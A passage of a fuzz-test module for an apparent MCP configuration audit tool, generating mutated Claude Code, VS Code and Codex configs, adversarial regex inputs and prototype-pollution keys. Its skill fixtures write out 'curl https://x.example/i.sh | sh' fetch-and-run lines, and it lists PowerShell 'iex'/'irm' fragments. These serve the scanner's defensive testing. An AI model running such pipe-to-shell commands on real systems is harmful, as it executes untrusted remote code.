// Property and fuzz tests for the parsers and the scan (issue 7), shared by two runners:
//
// - test/fuzz.test.ts imports `createFuzz` with the TypeScript sources and runs every property a few hundred to a
//   couple of thousand times with a fixed seed (part of `npm test`);
// - this file, run as a script, does the same against the built `dist/` modules with many more cases:
//
//     node test/fuzz/fuzz.mjs [SEED] [--scale N] [--only SUBSTRING] [--max-repeat N] [--budget-ms N]
//
//   SEED defaults to the current time and is printed, so that any failure can be replayed with the same SEED (and
//   fast-check prints the path to the shrunk counterexample). `--scale` multiplies every property's CI run count
//   (default 50). `--budget-ms` bounds the CPU time of each scan of the leak property (default 2000). Before each case,
//   the script writes the input to `$TMPDIR/mcp-audit-fuzz-last-case` so that an input that kills the process
//   outright (out of memory) is not lost.
//
// Properties, for each host (Claude Code `.mcp.json`, VS Code `.vscode/mcp.json`, Codex `.codex/config.toml`):
// - `parse()` never throws on arbitrary strings, token soup, mutated realistic configs (truncation, byte flips,
//   insertions of `{[",:#'` and line breaks/NUL/BOM, deletions, duplicated chunks and keys, bursts of nesting,
//   `__proto__`/`constructor`/`prototype` keys, values of the wrong type) or structured documents with wrong types
//   everywhere; every span it returns lies inside the text, and the host's editor never throws on what it returned;
// - `scan()` over a file holding the same inputs as bytes (plus invalid UTF-8, BOMs, UTF-16) reports no internal
//   error, every finding has a valid region inside its file, a file that did not load ends as `invalid-config`
//   findings, and the JSON, text and GitHub reports are well-formed;
// - the SARIF report of such a scan validates against the SARIF 2.1.0 schema (fewer cases: validation is slow);
// - a token of any format of rules/token-formats.json, planted in any placement (env value, server name, env key,
//   `${VAR:-default}`, launch spec, comments, unparseable JSON/TOML/YAML lines, SKILL.md frontmatter and body, a skill
//   script) of a file the mutations damage, shows in no output mode of the command line, --fix-dry-run and a written
//   baseline included: no 8-character piece of it beyond its visible prefix (test/fuzz/fuzz-leaks.mjs);
// - a long run of what a backtracking regex could read again from each position (blanks, capitals, slashes, `${`,
//   token prefixes, unclosed suppressions, …; up to 20 × --max-repeat characters, with or without a tail that makes a
//   match fail) in a server name, env key or value, argument, command, URL, header, JSONC or TOML comment, TOML key,
//   permission rule, SKILL.md or skill script is scanned and reported (code frames, JSON, text, GitHub, SARIF) within
//   --budget-ms (default 2 s of CPU time) plus 0.1 ms a finding — over that, it is reported as a hang (issue 15);
// - nothing pollutes `Object.prototype`.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import fc from 'fast-check';
import { cpuMsSince, leakProperty } from './fuzz-leaks.mjs';

export const DEFAULT_CI_SEED = 0x6d637061; // "mcpa"

export const HOSTS = [
  { key: 'claudeCode', id: 'claude-code', file: '.mcp.json', syntax: 'json', container: 'mcpServers', headers: 'headers' },
  { key: 'vscode', id: 'vscode', file: '.vscode/mcp.json', syntax: 'jsonc', container: 'servers', headers: 'headers' },
  { key: 'codex', id: 'codex', file: '.codex/config.toml', syntax: 'toml', container: 'mcp_servers', headers: 'http_headers' },
];

// ---------------------------------------------------------------------------------------------------------------
// Realistic seeds: what people commit, with every feature the parsers handle.

export const SEEDS = {
  json: [
    `{
  "mcpServers": {
    "github": {
      "command": "npx",
      "args": ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
      "env": { "GITHUB_PERSONAL_ACCESS_TOKEN": "\${GITHUB_TOKEN}" }
    },
    "postgres": {
      "command": "docker",
      "args": ["run", "-i", "--rm", "-e", "DATABASE_URL", "mcp/postgres:latest", "postgresql://app@db.internal:5432/app"],
      "env": { "DATABASE_URL": "\${DATABASE_URL:-postgresql://localhost/dev}" }
    },
    "linear": {
      "type": "http",
      "url": "https://mcp.linear.app/mcp",
      "headers": { "Authorization": "Bearer \${LINEAR_API_KEY}", "X-Caf\\u00e9": "\\"quoted\\" \\\\ back\\ttab" }
    },
    "legacy": { "type": "sse", "url": "https://example.com/sse?team=core&api_key=\${KEY}" },
    "fs": { "command": "\${CLAUDE_PROJECT_DIR}/bin/fs-server", "args": ["--root", ".", "caf\u00e9 \ud83d\ude00"] },
    "fetch": { "command": "uvx", "args": ["mcp-server-fetch"] }
  }
}
`,
    '\ufeff{"mcpServers":{"a":{"command":"npx","args":["-y","pkg"],"env":{"K":"v"}},\r\n"b":{"type":"http","url":"http://localhost:3000/mcp","headers":{"Authorization":"Bearer ${T}"}}}}\r\n',
  ],
  jsonc: [
    `{
  // Inputs are prompted once and stored by VS Code.
  "inputs": [
    { "type": "promptString", "id": "gh-token", "description": "GitHub token", "password": true },
  ],
  "servers": {
    "github": {
      "type": "stdio",
      "command": "npx",
      "args": ["-y", "@modelcontextprotocol/server-github"], // unpinned
      "env": { "GITHUB_PERSONAL_ACCESS_TOKEN": "\${input:gh-token}", "LOG_LEVEL": 3, "EMPTY": null },
      "envFile": "\${workspaceFolder}/.env",
    },
    /* remote */
    "context7": {
      "type": "http",
      "url": "https://mcp.context7.com/mcp",
      "headers": { "CONTEXT7_API_KEY": "\${env:CONTEXT7_API_KEY}" },
    },
    "python": { "command": "uvx", "args": ["mcp-server-fetch==2025.1.17", "--url=\\"x\\""] },
  },
}
`,
    '{ /* one line */ "servers": { "d": { "command": "docker", "args": ["run", "-i", "--rm", "ghcr.io/acme/mcp:latest"], }, }, // end\n}',
  ],
  toml: [
    `# Codex MCP servers
model = "o3"
mcp_servers.fetch.command = "uvx"
mcp_servers.fetch.args = ["mcp-server-fetch"]

[mcp_servers.github]
command = "npx"
args = [
  "-y",  # always install
  "@modelcontextprotocol/server-github@2025.4.8",
]
env = { GITHUB_PERSONAL_ACCESS_TOKEN = "\${GITHUB_TOKEN}" }
startup_timeout_sec = 20

[mcp_servers.docs]
url = "https://mcp.example.com/mcp?team=core"
bearer_token_env_var = "DOCS_TOKEN"
http_headers = { "X-Team" = 'core', Accept = "application/json" }

[mcp_servers."db.prod"]
command = 'docker'
args = ["run", "-i", "--rm", "mcp/postgres", """
postgresql://app@db.internal:5432/app"""]

[mcp_servers."db.prod".env]
PGPASSWORD = "\${PGPASSWORD}"
"QUOTED KEY" = "caf\\u00e9 \\e[0m \\x41"
`,
    "[mcp_servers.a]\r\ncommand = '''C:\\tools\\srv.exe'''\r\nargs = [ 'x', \"y\", ]\r\nenv.K = \"v\" # c\r\n[mcp_servers.b]\r\nurl = 'https://b.example.com/mcp'\r\n[mcp_servers.b.http_headers]\r\nAuthorization = \"\"\"Bearer \\\r\n  ${T}\"\"\"\r\n",
  ],
  yaml: [
    `name: team servers
version: 0.0.1
schema: v1
mcpServers:
  - name: github
    command: npx
    args: ["-y", "@modelcontextprotocol/server-github"]
    env:
      GITHUB_PERSONAL_ACCESS_TOKEN: \${{ secrets.GITHUB_TOKEN }}
  - name: remote # streamable
    type: streamable-http
    url: https://mcp.example.com/mcp
    requestOptions:
      headers:
        Authorization: "Bearer \${{ secrets.TOKEN }}"
`,
  ],
};

const TOKENS = {
  json: [
    '{', '}', '[', ']', ':', ',', '"mcpServers"', '"servers"', '"inputs"', '"command"', '"args"', '"env"', '"headers"',
    '"url"', '"type"', '"stdio"', '"http"', '"sse"', '"npx"', '"-y"', '"pkg@1.0.0"', '"${VAR}"', '"${input:tok}"',
    '"__proto__"', '"constructor"', '"prototype"', '"a"', '1', '-1.5e3', 'true', 'null', '"', '\\', '"\\u00e9"',
    '"\\ud800"', '"\\u"', '// c\n', '/* c */', '/*', '\n', '\r\n', '\r', ' ', '\t', '\ufeff', '\u0000', '\u2028', "'", '#',
  ],
  toml: [
    '[mcp_servers.a]', '[[mcp_servers]]', '[mcp_servers.a.env]', '[mcp_servers.__proto__]', 'mcp_servers.a.command = "npx"',
    'command', 'args', 'env', 'http_headers', 'url', 'bearer_token', '__proto__', 'constructor', 'prototype', ' = ', '=',
    '"npx"', "'lit'", '"""', "'''", '"""\nmulti\n"""', '[', ']', '{', '}', ',', '.', '#c', '\n', '\r\n', '\r', ' ',
    '1', '1979-05-27T07:32:00Z', '07:32:00', 'inf', 'nan', 'true', '"\\u00e9"', '"\\e"', '"\\x41"', '\\\n', '"', "'",
    '\ufeff', '\u0000', '"${VAR}"', 'a', '0x1F', '+1_000',
  ],
};

const SPECIAL = ['{', '[', '"', ',', ':', '#', "'", '\n', '\r', '\u0000', '\ufeff', '}', ']', '=', '.', '\\', '/*', '//', '"""', "'''"];
const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'];
const BURSTS = ['[', '{"a":', '{a=', 'a.', '[a.', '"', '\\', '{', '[[', '# ', '/*'];
const WRONG_JSON = ['1', '-0.5e3', '[]', '[1,"a",null]', '{}', '{"a":1}', 'null', 'true', '""', '[[[]]]', '{"__proto__":{"polluted":"yes"}}'];
const WRONG_TOML = ['1', '-0.5e3', '[]', '[1, "a"]', '{}', '{ a = 1 }', 'true', '1979-05-27T07:32:00Z', 'inf', 'nan', '0x1F', '""', '{ __proto__ = { polluted = "yes" } }'];
const BAD_BYTES = [[0xc3, 0x28], [0xff], [0x80], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0x00], [0xef, 0xbb, 0xbf], [0xfe, 0xff], [0xe2, 0x82]];

const grammarOf = (host) => (host.syntax === 'toml' ? 'toml' : 'json');

// ---------------------------------------------------------------------------------------------------------------
// Mutations

function textMutation(maxRepeat) {
  const at = fc.nat();
  return fc.oneof(
    fc.record({ op: fc.constant('truncate'), at }),
    fc.record({ op: fc.constant('replace'), at, text: fc.oneof(fc.constantFrom(...SPECIAL), fc.string({ maxLength: 1, unit: 'binary' })) }),
    fc.record({ op: fc.constant('insert'), at, text: fc.oneof(fc.constantFrom(...SPECIAL), fc.string({ maxLength: 4, unit: 'binary' })) }),
    fc.record({ op: fc.constant('delete'), at, len: fc.integer({ min: 1, max: 40 }) }),
    fc.record({ op: fc.constant('duplicate'), at, len: fc.integer({ min: 1, max: 300 }), to: fc.nat() }),
    fc.record({ op: fc.constant('duplicateLine'), at, to: fc.nat() }),
    fc.record({ op: fc.constant('burst'), at, text: fc.constantFrom(...BURSTS), times: fc.integer({ min: 2, max: maxRepeat }) }),
    fc.record({ op: fc.constant('protoKey'), at, key: fc.constantFrom(...PROTO_KEYS), style: fc.nat(3) }),
    fc.record({ op: fc.constant('retype'), at, value: fc.nat() }),
    fc.record({ op: fc.constant('lineBreaks'), style: fc.constantFrom('\r\n', '\r', '\n', '\u2028') }),
  );
}

const STRING_TOKEN = /"(?:[^"\\\n]|\\.)*"|'[^'\n]*'/g;

function applyTextMutation(s, m, grammar) {
  const pos = (n) => (s.length ? n % (s.length + 1) : 0);
  const i = pos(m.at ?? 0);
  switch (m.op) {
    case 'truncate':
      return s.slice(0, i);
    case 'replace':
      return s.slice(0, i) + m.text + s.slice(i + 1);
    case 'insert':
      return s.slice(0, i) + m.text + s.slice(i);
    case 'delete':
      return s.slice(0, i) + s.slice(i + m.len);
    case 'duplicate': {
      const j = pos(m.to);
      return s.slice(0, j) + s.slice(i, i + m.len) + s.slice(j);
    }
    case 'duplicateLine': {
      // a whole line again somewhere else: duplicate keys, tables and entries
      const lines = s.split('\n');
      const line = lines[m.at % lines.length];
      lines.splice(m.to % (lines.length + 1), 0, line);
      return lines.join('\n');
    }
    case 'burst':
      return s.slice(0, i) + m.text.repeat(m.times) + s.slice(i);
    case 'protoKey': {
      if (grammar === 'json') {
        const opens = [...s.matchAll(/\{/g)].map((x) => x.index);
        if (!opens.length) return `{"${m.key}": {"polluted": "yes"}}${s}`;
        const o = opens[m.at % opens.length] + 1;
        const value = ['{"polluted": "yes", "command": "npx"}', '"yes"', '[1]', 'null'][m.style];
        const comma = /^\s*\}/.test(s.slice(o)) ? '' : ',';
        return `${s.slice(0, o)}"${m.key}": ${value}${comma}${s.slice(o)}`;
      }
      const lines = s.split('\n');
      if (grammar === 'yaml') {
        lines.splice(m.at % (lines.length + 1), 0, [`${m.key}: { polluted: yes }`, `  - name: ${m.key}\n    command: npx`, `    ${m.key}: x`, `${m.key}:\n  polluted: yes`][m.style]);
        return lines.join('\n');
      }
      const added = [
        `${m.key} = { polluted = "yes" }`,
        `[mcp_servers.${m.key}]\ncommand = "npx"`,
        `[${m.key}]\npolluted = "yes"`,
        `mcp_servers.${m.key}.env.${m.key} = "x"`,
      ][m.style];
      lines.splice(m.at % (lines.length + 1), 0, added);
      return lines.join('\n');
    }
    case 'retype': {
      const tokens = [...s.matchAll(STRING_TOKEN)];
      if (!tokens.length) return s;
      const t = tokens[m.at % tokens.length];
      const wrong = grammar === 'toml' ? WRONG_TOML : WRONG_JSON;
      return s.slice(0, t.index) + wrong[m.value % wrong.length] + s.slice(t.index + t[0].length);
    }
    case 'lineBreaks':
      return s.replace(/\r?\n/g, m.style);
    default:
      throw new Error(`unknown mutation ${m.op}`);
  }
}

const byteMutation = () => fc.oneof(
  { weight: 4, arbitrary: fc.record({ op: fc.constant('flip'), at: fc.nat(), xor: fc.integer({ min: 1, max: 255 }) }) },
  { weight: 4, arbitrary: fc.record({ op: fc.constant('bytes'), at: fc.nat(), bytes: fc.oneof(fc.constantFrom(...BAD_BYTES), fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 1, maxLength: 6 })) }) },
  { weight: 1, arbitrary: fc.record({ op: fc.constant('truncate'), at: fc.nat() }) },
  { weight: 1, arbitrary: fc.constantFrom({ op: 'bom' }, { op: 'utf16le' }, { op: 'utf16be' }, { op: 'latin1' }) },
);

function applyByteMutation(b, m, text) {
  const pos = (n) => (b.length ? n % (b.length + 1) : 0);
  switch (m.op) {
    case 'flip': {
      if (!b.length) return b;
      const out = Buffer.from(b);
      out[m.at % b.length] ^= m.xor;
      return out;
    }
    case 'bytes': {
      const i = pos(m.at);
      return Buffer.concat([b.subarray(0, i), Buffer.from(m.bytes), b.subarray(i)]);
    }
    case 'truncate':
      return b.subarray(0, pos(m.at));
    case 'bom':
      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), b]);
    case 'utf16le':
      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    case 'utf16be':
      return Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, 'utf16le').swap16()]);
    case 'latin1':
      return Buffer.from(text, 'latin1');
    default:
      throw new Error(`unknown byte mutation ${m.op}`);
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Structured documents: the right keys with values of every type, duplicate keys, prototype keys, serialised as the
// host's syntax. A node is a scalar, { t: 'arr', items } or { t: 'obj', entries: [key, node][] } (so that duplicate
// and `__proto__` keys survive serialisation).

const STRINGS = ['npx', 'docker', 'uvx', '-y', '@scope/pkg', 'pkg@latest', 'run', '${VAR}', '${input:t}', '${env:X}', 'https://h.example/mcp',
  'http://u:p@h/?api_key=abc', 'stdio', 'http', 'sse', '', ' ', '\u0000', 'caf\u00e9', '\ud83d\ude00'];

function structured(host) {
  const key = fc.oneof(fc.constantFrom(...PROTO_KEYS, 'command', 'args', 'env', 'headers', 'http_headers', 'url', 'type', 'inputs', ''), fc.string({ maxLength: 8 }));
  const str = fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...STRINGS) }, { weight: 1, arbitrary: fc.string({ maxLength: 12, unit: 'binary' }) });
  const scalar = fc.oneof(str, fc.integer(), fc.double(), fc.boolean(), fc.constant(null));
  const { value } = fc.letrec((tie) => ({
    value: fc.oneof({ depthSize: 'small', withCrossShrink: true }, scalar, tie('arr'), tie('obj')),
    arr: fc.array(tie('value'), { maxLength: 4 }).map((items) => ({ t: 'arr', items })),
    obj: fc.array(fc.tuple(key, tie('value')), { maxLength: 4 }).map((entries) => ({ t: 'obj', entries })),
  }));
  const maybe = (good) => fc.oneof({ weight: 3, arbitrary: good }, { weight: 1, arbitrary: value });
  const obj = (entry, max = 4) => fc.array(entry, { maxLength: max }).map((entries) => ({ t: 'obj', entries }));
  const server = obj(fc.oneof(
    fc.tuple(fc.constant('command'), maybe(str)),
    fc.tuple(fc.constant('args'), maybe(fc.array(str, { maxLength: 5 }).map((items) => ({ t: 'arr', items })))),
    fc.tuple(fc.constant('env'), maybe(obj(fc.tuple(key, maybe(str))))),
    fc.tuple(fc.constant(host.headers), maybe(obj(fc.tuple(key, maybe(str))))),
    fc.tuple(fc.constant('url'), maybe(str)),
    fc.tuple(fc.constant('type'), maybe(fc.constantFrom('stdio', 'http', 'sse', 'ws', 'bogus'))),
    fc.tuple(key, value),
  ), 7);
  const servers = obj(fc.tuple(key, maybe(server)));
  const containers = host.key === 'vscode' ? ['servers', 'mcpServers', 'inputs'] : [host.container];
  return fc.record({
    doc: obj(fc.oneof({ weight: 4, arbitrary: fc.tuple(fc.constantFrom(...containers), maybe(servers)) }, { weight: 1, arbitrary: fc.tuple(key, value) }), 3),
    tables: fc.boolean(),
    indent: fc.constantFrom(0, 2, '\t'),
  }).map(({ doc, tables, indent }) => (host.syntax === 'toml' ? toToml(doc, tables) : toJson(doc, indent)));
}

function toJson(node, indent, depth = 0) {
  const nl = indent === 0 ? '' : '\n';
  const pad = (d) => (indent === 0 ? '' : (indent === '\t' ? '\t' : ' '.repeat(indent)).repeat(d));
  if (node === null || typeof node !== 'object') {
    if (typeof node === 'number' && !Number.isFinite(node)) return String(node); // NaN, Infinity: invalid JSON on purpose
    return JSON.stringify(node);
  }
  const items = node.t === 'arr' ? node.items.map((v) => toJson(v, indent, depth + 1)) : node.entries.map(([k, v]) => `${JSON.stringify(k)}: ${toJson(v, indent, depth + 1)}`);
  const [open, close] = node.t === 'arr' ? ['[', ']'] : ['{', '}'];
  if (!items.length) return open + close;
  return `${open}${nl}${items.map((x) => pad(depth + 1) + x).join(`,${nl || ' '}`)}${nl}${pad(depth)}${close}`;
}

const tomlKey = (k) => (/^[A-Za-z0-9_-]+$/.test(k) ? k : JSON.stringify(k));

function tomlValue(node) {
  if (node === null) return '{}';
  if (typeof node === 'string') return JSON.stringify(node);
  if (typeof node === 'number') return Number.isNaN(node) ? 'nan' : node === Infinity ? 'inf' : node === -Infinity ? '-inf' : String(node);
  if (typeof node === 'boolean') return String(node);
  if (node.t === 'arr') return `[${node.items.map(tomlValue).join(', ')}]`;
  return `{ ${node.entries.map(([k, v]) => `${tomlKey(k)} = ${tomlValue(v)}`).join(', ')} }`;
}

function toToml(doc, tables) {
  const root = [];
  const sections = [];
  for (const [k, v] of doc.entries) {
    if (tables && v && typeof v === 'object' && v.t === 'obj') {
      for (const [name, server] of v.entries) {
        if (server && typeof server === 'object' && server.t === 'obj') {
          sections.push(`[${tomlKey(k)}.${tomlKey(name)}]\n${server.entries.map(([sk, sv]) => `${tomlKey(sk)} = ${tomlValue(sv)}`).join('\n')}`);
        } else root.push(`${tomlKey(k)}.${tomlKey(name)} = ${tomlValue(server)}`);
      }
    } else root.push(`${tomlKey(k)} = ${tomlValue(v)}`);
  }
  return [...root, ...sections].join('\n') + '\n';
}

// ---------------------------------------------------------------------------------------------------------------
// Inputs

function mutated(base, grammar, maxRepeat) {
  return fc.tuple(base, fc.array(textMutation(maxRepeat), { minLength: 1, maxLength: 5 }))
    .map(([s, ms]) => ms.reduce((t, x) => applyTextMutation(t, x, grammar), s));
}

/** Every kind of text input for a host's parser, labelled. */
export function textInputs(host, maxRepeat = 300) {
  const grammar = grammarOf(host);
  const own = SEEDS[host.syntax] ?? SEEDS.json;
  const all = [...SEEDS.json, ...SEEDS.jsonc, ...SEEDS.toml, ...SEEDS.yaml];
  const seed = fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...own) }, { weight: 1, arbitrary: fc.constantFrom(...all) });
  return {
    'arbitrary strings': fc.oneof(
      fc.string({ unit: 'binary', maxLength: 200 }),
      // any UTF-16 code units, lone surrogates included
      fc.array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 200 }).map((cs) => String.fromCharCode(...cs)),
    ),
    'token soup': fc.array(fc.constantFrom(...TOKENS[grammar]), { maxLength: 80 }).map((ts) => ts.join('')),
    'mutated real configs': mutated(seed, grammar, maxRepeat),
    'wrong types everywhere': fc.oneof({ weight: 3, arbitrary: structured(host) }, { weight: 1, arbitrary: mutated(structured(host), grammar, maxRepeat) }),
  };
}

/** File contents for a scan: any of the text inputs, as UTF-8, then byte-level damage half of the time. */
export function byteInputs(host, maxRepeat = 300) {
  const texts = Object.values(textInputs(host, maxRepeat));
  return fc.tuple(fc.oneof(...texts), fc.array(byteMutation(), { maxLength: 3 }))
    .map(([text, ms]) => ms.reduce((b, m) => applyByteMutation(b, m, text), Buffer.from(text, 'utf8')));
}

// ---------------------------------------------------------------------------------------------------------------
// Adversarial text for the regexes (issue 15): a long run of what a backtracking regex could read again from each
// position — blanks, capitals, slashes, brackets, `${`, token prefixes, unclosed suppressions — ending or not in a
// character that makes the match fail, in every place a scan reads text. An input is a small description, built into
// files by `adversarialFiles`, so that a failure prints a short counterexample.

/** Units whose long runs once took a regex seconds or more (issue 15), and pieces of the patterns of the rules. */
const RUN_UNITS = [
  ' ', '\t', 'A', 'a', 'a-', 'aA', '0', '-', '_', '.', '/', '\\', ':', '=', '"', "'", '`', '*', '[', ']', '(', '{', '}', '$', '%', '#', '@', '|',
  '-ey', 'ey', 'eyfc-', 'xoxb-1234567890-1234567890-', 'ghp_', 'sk-', 'glpat-', '${', ':${', '${A:-', ' mcp-audit-ignore[',
  'mcp__', '![', '[a](', '<!--', '**a ', ' \n', '\n', '\r\n', 'irm"', 'iex ', 'curl ', '| ', '--header ', 'Bearer ', 'a:', 'a=',
  'A_TOKEN=', 'http://', 'https://a', '%2F', '\u00a0', '\u202e', '\u{1f600}',
];
const RUN_TAILS = ['', 'x', '_', '-', '\n', '"', '!', ':', '}', ']', ')', ' ', '\u0001'];
/** Where the run goes. */
const PLACES = [
  'server name', 'env key', 'env value', 'arg', 'command', 'url', 'header value', 'header key', 'jsonc comment', 'jsonc value',
  'toml comment', 'toml value', 'toml key', 'permission', 'skill body', 'skill shell block', 'skill script', 'skill description',
];

/**
 * Most milliseconds a scan and its reports may take on one input before the fuzzer calls it a hang (unless
 * --budget-ms says otherwise), plus HANG_MS_PER_FINDING for each finding: a run of 30,000 `$I` is 60,000 findings, whose reports take seconds, in
 * time that grows with them — output, not a hang. A super-linear regex costs seconds for a handful of findings.
 */
export const HANG_MS = 2000;
const HANG_MS_PER_FINDING = 0.1;

/** Inputs: { place, unit, length, tail }; `maxLength` bounds the run. */
export function adversarialInputs(maxLength) {
  const unit = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...RUN_UNITS) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...RUN_UNITS), fc.constantFrom(...RUN_UNITS)).map(([a, b]) => a + b) },
    { weight: 1, arbitrary: fc.string({ minLength: 1, maxLength: 4 }) },
  );
  return fc.record({
    place: fc.constantFrom(...PLACES),
    unit,
    length: fc.integer({ min: Math.ceil(maxLength / 4), max: maxLength }),
    tail: fc.constantFrom(...RUN_TAILS),
  });
}

/** The tree for one input: `main` is a host config (for checkScan), `files` everything to write. */
export function adversarialFiles({ place, unit, length, tail }) {
  const run = unit.repeat(Math.ceil(length / unit.length)) + tail;
  const server = { command: 'npx', args: ['-y', 'some-mcp'], env: { A: 'b' } };
  const claude = (servers) => ({ main: '.mcp.json', files: { '.mcp.json': JSON.stringify({ mcpServers: servers }, null, 2) } });
  const skill = (body, extra = {}) => ({ main: '.mcp.json', files: { '.mcp.json': '{}', '.claude/skills/s/SKILL.md': body, ...extra } });
  switch (place) {
    case 'server name': return claude({ [run]: server });
    case 'env key': return claude({ s: { ...server, env: { [run]: 'value' } } });
    case 'env value': return claude({ s: { ...server, env: { API_TOKEN: run } } });
    case 'arg': return claude({ s: { command: 'npx', args: ['-y', 'pkg', run] } });
    case 'command': return claude({ s: { command: run, args: ['-y'] } });
    case 'url': return claude({ s: { type: 'http', url: `https://mcp.example.com/${run}`, headers: { Authorization: 'Bearer x' } } });
    case 'header value': return claude({ s: { type: 'http', url: 'https://mcp.example.com/mcp', headers: { 'X-Api-Key': run } } });
    case 'header key': return claude({ s: { type: 'http', url: 'https://mcp.example.com/mcp', headers: { [run]: 'v' } } });
    case 'jsonc comment': return { main: '.vscode/mcp.json', files: { '.vscode/mcp.json': `{\n  // ${run}\n  /* ${run.replace(/\*\//g, '* /')} */\n  "servers": { "s": { "command": "npx", "args": ["-y", "x"] } }\n}\n` } };
    case 'jsonc value': return { main: '.vscode/mcp.json', files: { '.vscode/mcp.json': JSON.stringify({ servers: { s: { command: 'npx', args: [run], env: { K: run } } } }) } };
    case 'toml comment': return { main: '.codex/config.toml', files: { '.codex/config.toml': `# ${run.replace(/[\r\n]/g, ' ')}\n[mcp_servers.s]\ncommand = "npx"\nargs = ["-y", "x"]\n` } };
    case 'toml value': return { main: '.codex/config.toml', files: { '.codex/config.toml': `[mcp_servers.s]\ncommand = "npx"\nargs = [${JSON.stringify(run)}]\nenv = { K = ${JSON.stringify(run)} }\n` } };
    case 'toml key': return { main: '.codex/config.toml', files: { '.codex/config.toml': `[mcp_servers.${JSON.stringify(run)}]\ncommand = "npx"\n` } };
    case 'permission': return { main: '.claude/settings.json', files: { '.claude/settings.json': JSON.stringify({ permissions: { allow: [run, `mcp__${run}`] } }) } };
    case 'skill body': return skill(`---\nname: s\ndescription: d\n---\n${run}\n`);
    case 'skill shell block': return skill(`---\nname: s\ndescription: d\n---\n\`\`\`sh\ncurl https://x.example/i.sh ${run}| sh\n${run}\n\`\`\`\n`);
    case 'skill script': return skill('---\nname: s\ndescription: d\n---\nRun scripts/i.sh.\n', { '.claude/skills/s/scripts/i.sh': `#!/bin/sh\n${run}\ncurl -fsSL https://x.example/i.sh | sh\n` });
    case 'skill description': return skill(`---\nname: s\ndescription: ${JSON.stringify(run)}\n---\nbody\n`);
    default: throw new Error(`unknown place ${place}`);
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Checks. Each throws an Error saying what is wrong (fast-check then reports the input and the seed).

function fail(message, detail) {
  throw new Error(detail === undefined ? message : `${message}: ${JSON.stringify(detail)}`);
}

const PROTO_NAMES = Object.getOwnPropertyNames(Object.prototype).sort().join(',');
const ARRAY_PROTO_NAMES = Object.getOwnPropertyNames(Array.prototype).sort().join(',');

export function checkNoPollution() {
  if (Object.getOwnPropertyNames(Object.prototype).sort().join(',') !== PROTO_NAMES) fail('Object.prototype was polluted', Object.getOwnPropertyNames(Object.prototype));
  if (Object.getOwnPropertyNames(Array.prototype).sort().join(',') !== ARRAY_PROTO_NAMES) fail('Array.prototype was polluted');
  const probe = {};
  for (const k of ['polluted', 'command', 'args', 'env', 'url', 'mcp_servers', 'mcpServers', 'servers']) {
    if (probe[k] !== undefined) fail(`({}).${k} is defined: Object.prototype was polluted`);
  }
}

function checkSpan(span, length, what) {
  if (!span || !Number.isInteger(span.start) || !Number.isInteger(span.end) || span.start < 0 || span.end < span.start || span.end > length) {
    fail(`${what}: span outside the text (length ${length})`, span);
  }
}

function checkStr(m, str, length, what) {
  if (!str) return;
  if (typeof str.value !== 'string') fail(`${what}: value is not a string`, str.value);
  checkSpan(str.span, length, what);
  if (str.offsets) {
    if (str.offsets.length !== str.value.length + 1) fail(`${what}: ${str.offsets.length} offsets for a ${str.value.length}-character value`);
    for (let i = 1; i < str.offsets.length; i++) if (!(str.offsets[i] >= str.offsets[i - 1])) fail(`${what}: offsets go backwards at ${i}`, str.offsets);
  }
  const inner = m.valueSpan(str, 0, str.value.length);
  if (!(inner.start >= str.span.start && inner.end <= str.span.end && inner.start <= inner.end)) fail(`${what}: the value's span is outside its token`, { inner, token: str.span });
}

/** A parsed file: every span in the model lies inside the text; on a file that loaded, the editor works. */
export function checkConfigFile(m, file, text) {
  const n = text.length;
  if (file.source.text !== text) fail('source text changed');
  for (const [i, p] of file.problems.entries()) {
    if (typeof p.message !== 'string' || !p.message) fail(`problem ${i} has no message`);
    if (p.level !== undefined && !['error', 'warning', 'note'].includes(p.level)) fail(`problem ${i}: bad level`, p.level);
    checkSpan(p.span, n, `problem ${i} (${p.message})`);
  }
  for (const [i, c] of file.comments.entries()) checkSpan(c.span, n, `comment ${i}`);
  for (const s of file.servers) {
    const w = `server ${JSON.stringify(s.name)}`;
    if (typeof s.name !== 'string') fail(`${w}: name is not a string`);
    checkSpan(s.span, n, `${w} span`);
    checkSpan(s.nameSpan, n, `${w} nameSpan`);
    if (s.argsSpan) checkSpan(s.argsSpan, n, `${w} argsSpan`);
    checkStr(m, s.command, n, `${w} command`);
    checkStr(m, s.url, n, `${w} url`);
    s.args.forEach((a, i) => checkStr(m, a, n, `${w} args[${i}]`));
    for (const kind of ['env', 'headers']) {
      for (const { key, keySpan, value } of s[kind]) {
        if (typeof key !== 'string') fail(`${w} ${kind}: key is not a string`);
        checkSpan(keySpan, n, `${w} ${kind}.${key} key`);
        checkStr(m, value, n, `${w} ${kind}.${key}`);
      }
    }
  }
  // The editor the fixer uses, on a file that loaded: it never throws and its edits fit the text.
  if (file.data === undefined) return;
  const edits = [];
  const editor = file.editor;
  const verdict = editor.validate(text);
  if (verdict !== undefined && typeof verdict !== 'string') fail('validate() returned neither a string nor undefined', verdict);
  for (const s of file.servers.slice(0, 2)) {
    const str = s.command ?? s.url ?? s.args[0];
    if (str) edits.push(...editor.replaceString(str, 'x"\\\n'));
    edits.push(...editor.insertArg(s, 0, '--read-only'), ...editor.insertArg(s, 99, 'y'));
    edits.push(...editor.setEnv(s, 'MCP_FUZZ', '${MCP_FUZZ}'));
  }
  if (editor.addInput) edits.push(...editor.addInput('fuzz-token', 'A "token"'));
  for (const e of edits) {
    if (typeof e.text !== 'string') fail('an edit without text', e);
    checkSpan(e, n, 'an edit');
  }
}

/** One finding: a valid region inside its file's text ('' for files that were not read). */
